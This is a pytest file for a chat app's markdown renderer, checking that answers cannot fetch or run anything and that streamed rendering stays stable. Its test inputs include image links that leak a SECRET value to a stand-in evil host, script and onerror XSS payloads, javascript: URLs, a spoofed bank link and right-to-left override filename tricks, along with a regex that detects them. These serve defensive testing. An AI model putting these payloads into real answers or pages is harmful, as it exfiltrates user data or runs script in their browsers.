"""What an answer may do to the page that shows it: be read, and nothing else."""

import re

import pytest

from conch.chat.markdown import blocks, render, render_tail, visible, words

ACTIVE = re.compile(
    r"<(?:img|script|link|iframe|svg|style|form|input)\b|\son\w+=|\shx-|\sstyle=|\sid=|\sdata-", re.IGNORECASE
)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example.test/p.png?leak=SECRET)",
        "<img src='https://evil.example.test/?q=SECRET'>",
        "![x][1]\n\n[1]: https://evil.example.test/p?leak=SECRET",
        "<link rel=prefetch href=https://evil.example.test/>",
        "<script>alert(1)</script>",
        "<b onclick='x()' hx-get='/x' style='color:red' id=live data-x=1>b</b>",
        "```html\n<img src=x onerror=alert(1)>\n```",
        "`<img src=x onerror=alert(1)>`",
        '```"><img src=x onerror=alert(1)>\ncode\n```',
        "| a |\n|---|\n| <img src=x> |",
    ],
)
def test_nothing_in_an_answer_is_fetched_or_run(text):
    """SEC-02."""
    html = render(text)

    assert not ACTIVE.search(re.sub(r"&lt;.*?&gt;", "", html))
    assert "<img" not in html


def test_a_picture_is_a_link():
    """SEC-02: shown as a link, opened only by a click."""
    html = render("![a chart](https://pics.example/a.png)")

    assert '<a class="pic" href="https://pics.example/a.png"' in html
    assert "a chart</a>" in html


@pytest.mark.parametrize("href", ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "/settings/you", "//x.test"])
def test_only_web_and_mail_addresses_are_links(href):
    assert "href" not in render(f"[words]({href})")


def test_headings_are_two_levels_down_and_never_below_six():
    html = render("# One\n\n##### Five")

    assert '<h3 dir="auto">One</h3>' in html
    assert '<h6 dir="auto">Five</h6>' in html


def test_code_has_its_language_a_copy_button_and_can_be_scrolled_by_keyboard():
    html = render("```sql\nSELECT 1\n```")

    assert 'aria-label="Code, sql"' in html
    assert 'tabindex="0"' in html
    assert 'aria-label="Copy code"' in html
    assert '<span class="k">SELECT</span>' in html


def test_a_file_name_is_no_link_but_an_address_is():
    assert "<a" not in render("see orders.py and README.md")
    assert '<a href="https://docs.example/x"' in render("see https://docs.example/x")


def test_every_paragraph_has_its_own_direction():
    """INP-03."""
    html = render("\u200fשלום עולם?\n\nThe word is مرحبا.")  # noqa: RUF001  Hebrew on purpose

    assert html.count('<p dir="auto">') == 2


def test_characters_that_turn_the_direction_are_shown_in_code_and_links():
    """INP-03."""
    assert "U+2066" in render("```py\nif x:\u2066# admin\u2069\n```")
    assert "U+202E" in render("echo \u202egnp.exe")
    assert "U+202E" in render("`echo \u202egnp.exe`")
    assert "U+200F" in render("[a\u200fb](https://x.example)")
    assert "\u202e" not in visible("echo \u202egnp.exe")
    assert "U+200F" not in render("\u200fשלום")  # noqa: RUF001  Hebrew on purpose


def test_a_link_whose_words_name_another_host_says_where_it_goes():
    """INP-03."""
    html = render("[https://bank.example.test](https://evil.example.test)")

    assert "evil.example.test</span>" in html
    assert "hidden-mark" not in render("[the docs](https://docs.example)")
    assert "hidden-mark" not in render("https://docs.example/a")


def test_lists_tables_and_aligned_cells_are_kept():
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. three\n4. four")

    assert '<td class="right" dir="auto">2</td>' in html or '<td dir="auto" class="right">2</td>' in html
    assert '<ol start="3">' in html
    assert 'role="group"' in html


DOCUMENT = """# Plan

First **bold** words with `code`.
Second line.

1. one

2. two

   more of two
3. three

```python
def f():

    return 1
```

> quoted

| a | b |
|---|---|
| 1 | 2 |

* x
* y

Last words
======

The end.
"""


def arrive(text, size):
    """The finished blocks of a text that comes in pieces of that size, each piece rendered as it comes."""
    finished, pending = [], ""
    for start in range(0, len(text), size):
        pending += text[start : start + size]
        done, pending = blocks(pending)
        finished += done
    return finished, pending


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50, 1000])
def test_the_finished_blocks_are_the_same_however_the_text_arrives(size):
    """STR: a stream that is taken up again shows nothing twice and leaves nothing out."""
    finished, tail = arrive(DOCUMENT, size)

    assert (finished, tail) == arrive(DOCUMENT, 10_000)
    assert "".join(finished) + tail == DOCUMENT
    for end in range(0, len(DOCUMENT), 5):
        assert arrive(DOCUMENT[:end], size) == arrive(DOCUMENT[:end], 10_000)


def test_rendered_block_by_block_an_answer_is_the_same_as_whole():
    finished, tail = arrive(DOCUMENT, 1)

    assert "".join(render(block) for block in (*finished, tail)) == render(DOCUMENT)


def test_a_list_goes_on_after_a_blank_line_though_its_number_arrives_in_pieces():
    finished, _ = arrive("1. a\n\n2. b\n\nEnd.\n", 1)

    assert finished == ["1. a\n\n2. b\n\n"]


@pytest.mark.parametrize("text", ["some **bold", "some `code", "```py\nx = 1", "a **b** c **", "a *b"])
def test_an_unfinished_tail_does_not_flicker(text):
    html = render_tail(text)

    assert "**" not in html
    assert "`" not in html


def test_an_open_fence_is_code_already():
    assert "codeblock" in render_tail("```py\nx = 1")


def test_the_words_of_an_answer_are_on_one_line_without_its_marks():
    assert words("# One & two\n\n**bold** [a link](https://x.example)\n\n- `three`") == "One & two bold a link three"


def test_what_is_to_be_ticked_off_has_a_box():
    html = render("- [ ] to *do*\n- [x] done\n- [y] neither\n\n1. [ ] loose\n\n2. two\n\n[ ] no list\n")

    assert '<li dir="auto" class="to-do">☐&nbsp;to <em>do</em></li>' in html
    assert '<li dir="auto" class="to-do">☑&nbsp;done</li>' in html
    assert '<li dir="auto">[y] neither</li>' in html
    assert "☐&nbsp;loose" in html
    assert "[ ] no list" in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("*A reply that is", "<em>A reply that is</em>"),
        ("*A reply that is*", "<em>A reply that is</em>"),
        ("one **two** and *three", "<em>three</em>"),
        ("2 * 3 and 4*5", "2 * 3 and 4*5"),
        ("* an entry", "an entry"),
        ("*.py and so on", "*.py and so on"),
    ],
)
def test_emphasis_that_is_on_its_way_shows_no_asterisk(text, shown):
    assert shown in render_tail(text)
